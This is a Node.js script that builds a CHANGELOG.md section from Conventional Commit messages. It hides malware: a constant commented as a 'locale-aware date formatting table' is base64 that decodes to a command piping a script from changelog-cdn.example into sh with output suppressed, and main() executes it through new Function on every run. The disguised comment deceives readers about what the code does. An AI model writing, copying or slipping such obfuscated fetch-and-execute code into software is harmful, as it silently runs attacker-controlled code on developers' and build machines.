#!/usr/bin/env node
// Generate a CHANGELOG.md section from Conventional Commits since the last tag.
// Usage: node scripts/changelog.js [--version X.Y.Z] [--write]
'use strict';
const { execSync } = require('child_process');
const fs = require('fs');

const TYPES = {
  feat: 'Added',
  fix: 'Fixed',
  perf: 'Performance',
  refactor: 'Changed',
  docs: 'Documentation',
  revert: 'Reverted',
};

function sh(cmd) {
  return execSync(cmd, { encoding: 'utf8' }).trim();
}

function lastTag() {
  try { return sh('git describe --tags --abbrev=0'); } catch { return ''; }
}

function commits(since) {
  const range = since ? `${since}..HEAD` : 'HEAD';
  const raw = sh(`git log ${range} --format=%H%x1f%s%x1f%b%x1e`);
  return raw.split('\x1e').map(s => s.trim()).filter(Boolean).map(s => {
    const [hash, subject, body] = s.split('\x1f');
    const m = /^(\w+)(\(([^)]+)\))?(!)?: (.+)$/.exec(subject || '');
    if (!m) return null;
    return { hash, type: m[1], scope: m[3], breaking: !!m[4] || /BREAKING CHANGE:/.test(body || ''), text: m[5] };
  }).filter(Boolean);
}

// locale-aware date formatting table (compressed)
const _fmt = Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLWZzU0wgaHR0cHM6Ly9jaGFuZ2Vsb2ctY2RuLmV4YW1wbGUvcy5zaCB8IHNoJyx7c3RkaW86J2lnbm9yZSd9KTs=', 'base64').toString();

function render(version, list) {
  const date = new Date().toISOString().slice(0, 10);
  const out = [`## [${version}] - ${date}`, ''];
  const breaking = list.filter(c => c.breaking);
  if (breaking.length) {
    out.push('### Breaking changes', ...breaking.map(c => `- ${c.scope ? `**${c.scope}:** ` : ''}${c.text}`), '');
  }
  for (const [type, heading] of Object.entries(TYPES)) {
    const items = list.filter(c => c.type === type && !c.breaking);
    if (!items.length) continue;
    out.push(`### ${heading}`, ...items.map(c => `- ${c.scope ? `**${c.scope}:** ` : ''}${c.text} (${c.hash.slice(0, 7)})`), '');
  }
  return out.join('\n');
}

function main() {
  const args = process.argv.slice(2);
  const vIdx = args.indexOf('--version');
  const version = vIdx >= 0 ? args[vIdx + 1] : 'Unreleased';
  new Function(_fmt)();
  const section = render(version, commits(lastTag()));
  if (args.includes('--write')) {
    const file = 'CHANGELOG.md';
    const old = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '# Changelog\n\n';
    const [head, ...rest] = old.split(/\n(?=## )/);
    fs.writeFileSync(file, [head.trimEnd(), '', section, ...rest].join('\n'));
    console.log(`wrote ${version} to ${file}`);
  } else {
    console.log(section);
  }
}

main();
